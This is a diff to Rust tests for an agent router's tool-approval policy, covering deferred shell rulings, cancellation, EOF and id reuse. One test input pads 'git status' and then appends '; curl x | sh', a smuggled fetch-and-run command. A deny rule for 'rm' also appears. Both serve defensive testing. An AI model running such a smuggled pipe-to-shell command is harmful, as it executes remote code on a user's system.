@@ -667,21 +667,10 @@ fn every_vendor_source_names_the_method_it_is_registered_under() {
 /// alone is asked, even when the announcement's command is one a rule allows.
 #[test]
 fn the_policy_decides_on_the_requests_own_tool_call_only() {
-    let dir = std::env::temp_dir().join(format!("acp-qb-router-policy-{}", std::process::id()));
-    std::fs::create_dir_all(&dir).unwrap();
-    let file = dir.join("policy.toml");
-    std::fs::write(
-        &file,
+    let mut t = Fixture::with_policy(
+        observed(),
         "[[rule]]\nid = \"git\"\ndecision = \"allow\"\ncommand = [\"git\", \"status\"]\n",
-    )
-    .unwrap();
-    let mut t = Fixture::new(RouterConfig {
-        policy: Some(crate::router::PolicyFiles {
-            given: vec![file],
-            user: None,
-        }),
-        ..observed()
-    });
+    );
     t.client(&msg::initialize(json!({})));
     t.take_agent();
     let padded = format!("git status {}; curl x | sh", "a".repeat(20_000));
@@ -717,5 +706,120 @@ fn the_policy_decides_on_the_requests_own_tool_call_only() {
         to_agent[0].contains(r#""optionId":"allow""#),
         "{to_agent:?}"
     );
-    let _ = std::fs::remove_dir_all(&dir);
+}
+
+/// A policy that denies `rm` (the command of [`permission`]).
+const DENY_RM: &str = "[[rule]]\nid = \"no-rm\"\ndecision = \"deny\"\ncommand = [\"rm\"]\n";
+
+/// A router whose shell is slow: a tool approval waits for its ruling.
+fn deciding() -> Fixture {
+    let mut t = Fixture::with_policy(observed(), DENY_RM).deferred();
+    t.client(&msg::initialize(json!({})));
+    t.agent(&msg::result(json!(0), json!({"protocolVersion": 1})));
+    t.take_agent();
+    t.take_client();
+    t.agent(&permission(json!(3)));
+    assert!(t.take_client().is_empty(), "not shown before its ruling");
+    assert!(t.take_agent().is_empty(), "not answered before its ruling");
+    t
+}
+
+/// The router asks the shell for the decision and does none itself: the approval waits,
+/// then the ruling answers it.
+#[test]
+fn a_tool_approval_is_decided_by_the_shell_and_answered_when_its_ruling_comes() {
+    let mut t = deciding();
+    assert!(
+        matches!(
+            t.out.effects.as_slice(),
+            [crate::router::Effect::Decide { .. }]
+        ),
+        "{:?}",
+        t.out.effects
+    );
+    t.run_effects();
+    let to_agent = t.take_agent();
+    assert_eq!(to_agent.len(), 1, "{to_agent:?}");
+    assert!(
+        to_agent[0].contains(r#""optionId":"reject""#),
+        "{to_agent:?}"
+    );
+    assert!(t.r.questions().is_empty());
+}
+
+/// While it waits for its ruling, an approval ends like any question, exactly once: a
+/// ruling that comes after is dropped.
+#[test]
+fn an_approval_waiting_for_its_ruling_ends_like_a_question_and_its_late_ruling_is_dropped() {
+    // session/cancel: the agent gets ACP's cancelled outcome.
+    let mut t = deciding();
+    t.client(&msg::session_cancel("s1"));
+    let to_agent = t.take_agent();
+    assert_eq!(
+        to_agent.len(),
+        2,
+        "the cancel, then the answer: {to_agent:?}"
+    );
+    assert_eq!(
+        parse(&to_agent[1]),
+        json!({"jsonrpc":"2.0","id":3,"result":{"outcome":{"outcome":"cancelled"}}})
+    );
+    t.run_effects();
+    assert!(t.take_agent().is_empty(), "the late ruling is dropped");
+    let to_client = t.take_client();
+    assert!(to_client.is_empty(), "{to_client:?}");
+
+    // The client's EOF: answered on its behalf, before the agent's stdin closes.
+    let mut t = deciding();
+    t.client_eof();
+    let to_agent = t.take_agent();
+    assert_eq!(
+        parse(&to_agent[0]),
+        json!({"jsonrpc":"2.0","id":3,"result":{"outcome":{"outcome":"cancelled"}}})
+    );
+    assert_eq!(to_agent.last().map(String::as_str), Some("<close>"));
+    t.run_effects();
+    assert!(t.take_agent().is_empty(), "the late ruling is dropped");
+
+    // The agent's $/cancel_request: -32800.
+    let mut t = deciding();
+    t.agent(&msg::cancel_request(json!(3)));
+    assert_eq!(
+        t.take_agent(),
+        [msg::error(json!(3), -32800, "Request cancelled")]
+    );
+    t.run_effects();
+    assert!(t.take_agent().is_empty(), "the late ruling is dropped");
+
+    // The agent gone: nothing to answer, nothing shown.
+    let mut t = deciding();
+    t.agent_gone(&crate::router::AgentExit {
+        code: Some(0),
+        signal: None,
+        stderr_tail: String::new(),
+    });
+    t.run_effects();
+    assert!(t.take_agent().is_empty());
+    let to_client = t.take_client();
+    assert!(to_client.is_empty(), "{to_client:?}");
+}
+
+/// An id that waits for its ruling is in use: a second request under it is not taken for
+/// a new question.
+#[test]
+fn an_id_waiting_for_its_ruling_is_in_use() {
+    let mut t = deciding();
+    t.agent(&msg::ask(
+        json!(3),
+        json!({"sessionId":"s1","questionId":"q","prompt":"p","options":["a","b"]}),
+    ));
+    let to_agent = t.take_agent();
+    assert_eq!(to_agent.len(), 1, "{to_agent:?}");
+    assert_eq!(parse(&to_agent[0])["error"]["code"], -32600, "{to_agent:?}");
+    t.run_effects();
+    assert_eq!(
+        t.take_agent().len(),
+        1,
+        "the approval still gets its ruling"
+    );
 }
